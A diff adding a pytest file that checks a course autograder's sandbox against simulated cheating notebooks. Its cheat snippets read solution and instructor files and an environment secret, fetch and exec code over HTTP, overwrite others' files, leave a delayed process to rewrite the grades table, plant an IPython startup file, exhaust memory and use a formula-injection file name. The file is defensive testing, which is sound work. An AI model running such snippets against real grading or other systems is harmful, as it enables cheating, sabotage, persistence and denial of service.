@@ -1,0 +1,244 @@
+"""A class of cheating and faulty submissions, graded beside an honest one in one run.
+
+Each cheat answers nothing itself (its answers are blank, worth 0 points): whatever points it
+gets, it got by cheating. The grader must give every cheat 0, keep the honest student's full
+marks, leak nothing and leave nothing running. What the sandbox does not stop yet (a patch of
+otter, doctest or NumPy written inside an answer cell, which runs in the same kernel as the
+tests) is said in docs/instructors.md and not claimed here.
+"""
+
+import csv
+import http.server
+import json
+import os
+import subprocess
+import threading
+import time
+from pathlib import Path
+
+import nbformat
+import pytest
+
+from course_lib import grading, sandbox
+
+# One class, graded once: its tests share one xdist worker (make unit: --dist loadgroup).
+pytestmark = pytest.mark.xdist_group("grading_attacks")
+
+try:
+    sandbox.check()
+except sandbox.SandboxUnavailable as error:
+    pytest.skip(f"no sandbox on this machine: {error}", allow_module_level=True)
+
+SAMPLE = Path(__file__).parent / "fixtures" / "exercise_sample.ipynb"
+CORRECT = [
+    "def psnr(x, y):\n    mse = np.mean((x - y) ** 2, axis=(1, 2, 3))\n"
+    "    return 10 * np.log10(4.0 / mse)",
+    "def to_model_range(images):\n    return np.asarray(images, np.float32) / 127.5 - 1",
+    'policy = "mixed_float16"',
+]
+CORRECT_CODE = "\n".join(CORRECT)
+BLANK = ["...", "...", "policy = ..."]
+MARKER = "course-attack-marker-7d1c"  # in every process a cheat starts, to find survivors
+SECRET = "open sesame"
+
+
+def _submission(student, path, answers, extra_cells=(), replace_first_code=None):
+    nb = nbformat.read(student, as_version=4)
+    cells = [c for c in nb.cells if grading.ANSWER_TAG in c.metadata.get("tags", [])]
+    for cell, answer in zip(cells, answers):
+        cell.source = answer
+    for index, source in extra_cells:
+        nb.cells.insert(index, nbformat.v4.new_code_cell(source))
+    if replace_first_code is not None:
+        first = next(c for c in nb.cells if c.cell_type == "code" and "import numpy" in c.source)
+        first.source = replace_first_code
+    path.parent.mkdir(parents=True, exist_ok=True)
+    nbformat.write(nb, path)
+    return path
+
+
+def _cheat(code):
+    """Answers: the cheat in the first answer cell, the rest blank."""
+    return [code, *BLANK[1:]]
+
+
+class _AnswerServer(http.server.BaseHTTPRequestHandler):
+    def do_GET(self):
+        self.send_response(200)
+        self.end_headers()
+        self.wfile.write(CORRECT_CODE.encode())
+
+    def log_message(self, *args):
+        pass
+
+
+# Session scope: a module fixture is made again whenever a worker comes back to this module
+# after running others.
+@pytest.fixture(scope="session")
+def graded(tmp_path_factory):
+    root = tmp_path_factory.mktemp("attacks")
+    out = root / "handout"
+    grading.assign(SAMPLE, out)
+    bundle = out / "autograder"
+    student = out / "student" / SAMPLE.name
+    instructor = root / "instructor"
+    instructor.mkdir()
+    (instructor / "answers.py").write_text(CORRECT_CODE)
+    table = root / "grades.csv"
+    table.write_text("previous table\n")
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _AnswerServer)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    port = server.server_address[1]
+    subs = root / "class"
+    cheats = {
+        # reading what it must not: the solution, the bundle, the instructor's files and
+        # environment, the network
+        "read_solution": f"""
+import glob, json, os
+found = [p for top in ("/home", "/tmp", "/root", "/work")
+         for p in glob.glob(top + "/**/exercise_sample.ipynb", recursive=True)]
+for path in [{str(SAMPLE)!r}, {str(bundle / SAMPLE.name)!r}, *found]:
+    try:
+        nb = json.load(open(path))
+    except Exception:
+        continue
+    for cell in nb["cells"]:
+        if cell["cell_type"] == "code" and "def psnr" in "".join(cell["source"]):
+            exec("".join(cell["source"]).replace("...", "None"))
+""",
+        "read_instructor_files": f"exec(open({str(instructor / 'answers.py')!r}).read())",
+        "read_environment": f"""
+import os
+if os.environ.get("COURSE_ATTACK_SECRET") == {SECRET!r}:
+    exec({CORRECT_CODE!r})
+""",
+        "network": f"""
+import urllib.request
+exec(urllib.request.urlopen("http://127.0.0.1:{port}/", timeout=3).read().decode())
+""",
+        # changing others' grades
+        "sabotage_others": """
+import glob, json, os
+for path in glob.glob("/tmp/**/*.ipynb", recursive=True) + glob.glob("/tmp/**/tests/*.py",
+                                                                   recursive=True):
+    try:
+        open(path, "w").write("sabotaged")
+    except OSError:
+        pass
+for top in ("/tmp", "/root", "/home", "/run"):
+    for path in glob.glob(top + "/**/kernel-*.json", recursive=True):
+        try:
+            open(path, "w").write("{}")
+        except OSError:
+            pass
+""",
+        "rewrite_table_later": f"""
+import subprocess
+subprocess.Popen(["sh", "-c", "sleep 8; echo cheated > {table}; echo {MARKER}"],
+                 start_new_session=True)
+""",
+        "plant_startup_file": f"""
+import os
+for home in (os.path.expanduser("~"), "/root", {str(Path.home())!r}):
+    folder = os.path.join(home, ".ipython", "profile_default", "startup")
+    try:
+        os.makedirs(folder, exist_ok=True)
+        open(os.path.join(folder, "00-{MARKER}.py"), "w").write({CORRECT_CODE!r})
+    except OSError:
+        pass
+""",
+        # limits that must hold for the whole process tree
+        "memory_tree": """
+import subprocess, sys
+code = ("b = bytearray(700 * 2**20); b[::4096] = b'x' * len(b[::4096]); "
+        "import time; time.sleep(5)")
+children = [subprocess.Popen([sys.executable, "-c", code]) for _ in range(4)]
+[child.wait() for child in children]
+""",
+    }
+    # Five notebooks (each grading costs seconds): the honest one, and cheats grouped by what
+    # they attack. A group scores 0 only if every attempt in it failed.
+    leaks = "\n".join(cheats[name] for name in ("read_solution", "read_instructor_files",
+                                                 "read_environment"))
+    leaks += "\ntry:\n" + "\n".join("    " + line for line in cheats["network"].splitlines())
+    leaks += "\nexcept OSError:\n    pass\n"
+    sabotage = "\n".join(cheats[name] for name in ("sabotage_others", "rewrite_table_later",
+                                                    "plant_startup_file"))
+    paths = {
+        "alice": _submission(student, subs / "a" / "notebook.ipynb", CORRECT),
+        # the same file name in another folder
+        "leaks": _submission(student, subs / "b" / "notebook.ipynb", _cheat(leaks)),
+        "sabotage": _submission(student, subs / "sabotage.ipynb", _cheat(sabotage)),
+        "memory_tree": _submission(student, subs / "memory_tree.ipynb",
+                                   _cheat(cheats["memory_tree"])),
+        # the answers in cells the grader does not grade (an added cell, a changed set-up
+        # cell), under a file name a spreadsheet would read as a formula
+        "other_cells": _submission(student, subs / "=HYPERLINK(1).ipynb", BLANK,
+                                   extra_cells=[(len(nbformat.read(student, 4).cells),
+                                                 CORRECT_CODE)],
+                                   replace_first_code="import numpy as np\n" + CORRECT_CODE),
+        "folder": subs / "folder.ipynb",
+    }
+    paths["folder"].mkdir()
+    os.environ["COURSE_ATTACK_SECRET"] = SECRET
+    try:
+        rows = grading.grade(bundle, list(paths.values()), table, timeout=120, memory_gb=2.0,
+                             workers=2, progress=lambda line: None)
+    finally:
+        del os.environ["COURSE_ATTACK_SECRET"]
+        server.shutdown()
+    by_name = dict(zip(paths, rows))
+    time.sleep(9)  # longer than the late writer waits
+    # a later run of a blank submission, after the planted start-up file
+    later = grading.grade(bundle, [_submission(student, root / "later" / "blank.ipynb", BLANK)],
+                          root / "later.csv", timeout=120, progress=lambda line: None)
+    yield {"rows": by_name, "table": table, "later": later[0], "root": root}
+    for home in ("/root", str(Path.home())):
+        planted = Path(home, ".ipython/profile_default/startup", f"00-{MARKER}.py")
+        planted.unlink(missing_ok=True)
+
+
+def test_the_honest_student_keeps_full_marks(graded):
+    alice = graded["rows"]["alice"]
+    assert (alice["status"], alice["total"], alice["possible"], alice["detail"]) == (
+        "graded", 5, 5, "full marks"), alice
+
+
+@pytest.mark.parametrize("cheat", ["leaks", "sabotage", "memory_tree", "other_cells"])
+def test_no_cheat_gains_a_point(graded, cheat):
+    row = graded["rows"][cheat]
+    assert row["total"] == 0, row
+
+
+def test_cells_outside_the_answers_are_reported_and_not_graded(graded):
+    detail = graded["rows"]["other_cells"]["detail"]
+    assert "1 added cell not graded" in detail and "1 changed or deleted cell" in detail, detail
+
+
+def test_the_memory_limit_holds_for_the_process_tree(graded):
+    row = graded["rows"]["memory_tree"]
+    assert row["total"] == 0 and row["status"] in ("memory", "graded", "error"), row
+
+
+def test_nothing_outlives_grading_and_the_table_stays_as_written(graded):
+    with open(graded["table"], newline="") as file:
+        written = list(csv.DictReader(file))
+    assert len(written) == len(graded["rows"])
+    survivors = subprocess.run(["pgrep", "-f", MARKER], capture_output=True, text=True).stdout
+    assert survivors == "", survivors
+
+
+def test_a_planted_start_up_file_does_not_reach_a_later_run(graded):
+    assert graded["later"]["total"] == 0, graded["later"]
+    assert not Path("/root/.ipython/profile_default/startup", f"00-{MARKER}.py").exists()
+
+
+def test_rows_say_what_happened(graded):
+    rows = graded["rows"]
+    assert rows["folder"]["status"] == "invalid" and "folder" in rows["folder"]["detail"]
+    assert (rows["alice"]["submission"], rows["leaks"]["submission"]) == (
+        "a/notebook.ipynb", "b/notebook.ipynb")
+    with open(graded["table"], newline="") as file:
+        names = [row["submission"] for row in csv.DictReader(file)]
+    assert "'=HYPERLINK(1).ipynb" in names  # read as text by a spreadsheet, not a formula
+    assert "full marks" not in json.dumps([r for r in rows.values() if r["total"] == 0])
